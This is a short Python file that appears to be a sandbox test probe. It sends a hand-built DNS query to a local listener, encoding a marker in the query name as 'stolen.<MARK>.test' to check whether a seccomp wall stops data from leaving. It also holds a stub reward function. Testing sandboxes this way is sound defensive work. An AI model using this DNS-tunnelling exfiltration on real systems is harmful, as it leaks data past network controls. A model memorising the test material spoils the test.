"""Asks a name server, with what it wants to tell in the name.

walls: seccomp
"""

import socket
import struct

name = b"".join(bytes([len(part)]) + part for part in (b"stolen", MARK.encode(), b"test"))
question = struct.pack("!6H", 1, 0x100, 1, 0, 0, 0) + name + b"\0" + struct.pack("!2H", 1, 1)
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
    server.connect(("127.0.0.1", PORT))
    server.send(question)


def compute_reward(height):
    return height, {}
